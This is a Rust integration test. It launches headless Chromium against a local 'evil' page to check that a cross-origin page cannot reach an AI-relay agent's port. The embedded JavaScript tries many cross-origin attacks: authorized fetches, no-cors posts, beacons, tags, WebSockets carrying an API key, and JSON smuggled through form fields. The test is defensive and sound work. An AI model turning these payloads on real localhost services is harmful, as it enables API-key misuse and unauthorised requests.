//! A page of another origin in a real browser reaches nothing through the agent's port.

use std::path::PathBuf;
use std::process::Stdio;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use relay_tests::codex::scratch_dir;
use relay_tests::skip::{Need, skip};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::process::Command;
use tokio::sync::mpsc;
use tokio::task::JoinSet;

use crate::{MODEL, setup};

/// The browser: what `RELAY_CHROMIUM` names, or where Debian puts it.
fn chromium() -> PathBuf {
    std::env::var_os("RELAY_CHROMIUM").map_or_else(|| PathBuf::from("/usr/bin/chromium"), PathBuf::from)
}

/// Tries everything a page can try, and tells its own server what came of it.
const PAGE: &str = r#"<!doctype html><title>evil</title><body><script>
const target = "http://TARGET", body = JSON.stringify({model: "MODEL", input: "x"});
const auth = {"authorization": "Bearer KEY"};
const tries = {
  plain: () => fetch(target + "/v1/responses", {method: "POST", body}),
  json: () => fetch(target + "/v1/responses", {method: "POST", body, headers: {"content-type": "application/json", ...auth}}),
  get: () => fetch(target + "/v1/models", {headers: auth}),
  simple_get: () => fetch(target + "/v1/models"),
};
const opaque = {
  no_cors_post: () => fetch(target + "/v1/responses", {method: "POST", mode: "no-cors", body}),
  no_cors_get: () => fetch(target + "/v1/models", {mode: "no-cors"}),
  beacon: async () => navigator.sendBeacon(target + "/v1/responses", body),
};
const tag = (make) => new Promise((done) => {
  const element = make(); element.onload = () => done("loaded"); element.onerror = () => done("error");
  document.body.append(element); setTimeout(() => done("nothing"), 1500);
});
const socket = (protocols) => new Promise((done) => {
  const ws = new WebSocket(target.replace("http", "ws") + "/v1/responses", protocols);
  ws.onopen = () => { ws.send(JSON.stringify({type: "response.create", model: "MODEL", input: "x"})); done("OPEN"); };
  ws.onerror = () => done("refused"); ws.onclose = () => done("refused"); setTimeout(() => done("nothing"), 3000);
});
(async () => {
  const seen = {};
  for (const [name, go] of Object.entries(tries)) {
    try { const r = await go(); seen[name] = "READ " + r.status + " " + (await r.text()).slice(0, 80); }
    catch (e) { seen[name] = "refused"; }
  }
  for (const [name, go] of Object.entries(opaque)) {
    try { await go(); seen[name] = "sent"; } catch (e) { seen[name] = "refused"; }
  }
  seen.script = await tag(() => Object.assign(document.createElement("script"), {src: target + "/v1/models"}));
  seen.image = await tag(() => Object.assign(new Image(), {src: target + "/v1/models"}));
  seen.socket = await socket([]);
  seen.socket_protocol = await socket(["realtime", "openai-insecure-api-key.KEY"]);
  const frame = Object.assign(document.createElement("iframe"), {name: "sink"});
  document.body.append(frame);
  for (const kind of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    const form = Object.assign(document.createElement("form"), {method: "post", enctype: kind, action: target + "/v1/responses", target: "sink"});
    form.append(Object.assign(document.createElement("input"), {name: body.slice(0, -1) + ',"x":"', value: '"}'}));
    document.body.append(form);
    await new Promise((done) => { frame.onload = done; form.submit(); setTimeout(done, 1500); });
    try { seen["form " + kind] = "READ " + frame.contentDocument.body.innerText; } catch (e) { seen["form " + kind] = "opaque"; }
  }
  await fetch("/done", {method: "POST", body: JSON.stringify(seen)});
})();
</script>"#;

/// A server for the page, and the report it posts.
async fn evil_site(page: String) -> (u16, mpsc::Receiver<String>, JoinSet<()>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let (report, reports) = mpsc::channel(4);
    let page = Arc::new(page);
    let mut tasks = JoinSet::new();
    tasks.spawn(async move {
        let mut connections = JoinSet::new();
        loop {
            let (stream, _) = listener.accept().await.unwrap();
            connections.spawn(serve(stream, Arc::clone(&page), report.clone()));
        }
    });
    (port, reports, tasks)
}

async fn serve(mut stream: TcpStream, page: Arc<String>, report: mpsc::Sender<String>) {
    let mut request = Vec::new();
    let mut length = None;
    loop {
        let text = String::from_utf8_lossy(&request).into_owned();
        if let Some((head, body)) = text.split_once("\r\n\r\n") {
            let wanted = *length.get_or_insert_with(|| {
                let line = head
                    .lines()
                    .find_map(|line| line.to_lowercase().strip_prefix("content-length:").map(str::to_owned));
                line.and_then(|value| value.trim().parse().ok()).unwrap_or(0usize)
            });
            if body.len() >= wanted {
                if head.starts_with("POST /done") {
                    report.send(body.to_owned()).await.unwrap();
                }
                break;
            }
        }
        if !stream.read_buf(&mut request).await.is_ok_and(|count| count > 0) {
            return;
        }
    }
    let answer = format!(
        "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{page}",
        page.len()
    );
    let _gone = stream.write_all(answer.as_bytes()).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_of_another_origin_reaches_nothing() {
    if !chromium().exists() {
        return skip(
            Need::Chromium,
            "no chromium: install it with apt to test the agent against a real browser",
        );
    }
    let world = setup().start().await;
    assert_eq!(
        world.through_agent().get("/models").await.unwrap().status,
        200,
        "the agent itself works"
    );
    let seen_by_vendor = world.vendor.calls().len();
    let page = PAGE
        .replace("TARGET", &world.agent.addr().to_string())
        .replace("MODEL", MODEL)
        .replace("KEY", &world.agent.key);
    let (port, mut reports, _site) = evil_site(page).await;
    let profile = scratch_dir("chromium");
    let talk = Arc::new(Mutex::new(String::new()));
    let mut browser = Command::new(chromium())
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
        ])
        .args([
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg(format!("http://127.0.0.1:{port}/"))
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let report = tokio::time::timeout(Duration::from_secs(60), reports.recv()).await;
    browser.kill().await.unwrap();
    let report = report
        .unwrap_or_else(|_| panic!("the page did not report: {}", talk.lock().unwrap()))
        .unwrap();
    let seen: serde_json::Value = serde_json::from_str(&report).unwrap();
    eprintln!("{seen:#}");
    for (what, outcome) in seen.as_object().unwrap() {
        let outcome = outcome.as_str().unwrap();
        assert!(
            !outcome.starts_with("READ") && outcome != "OPEN" && outcome != "loaded",
            "{what}: {outcome}"
        );
    }
    assert_eq!(
        world.vendor.calls().len(),
        seen_by_vendor,
        "the page reached the vendor: {seen:#}"
    );
    assert_eq!(world.vendor.sockets().len(), 0);
    let rows = world.books().rows().await;
    assert!(
        rows.iter().all(|row| row.endpoint.contains("models")),
        "the page reached the hub: {rows:#?}"
    );
    world.assert_sound().await;
}
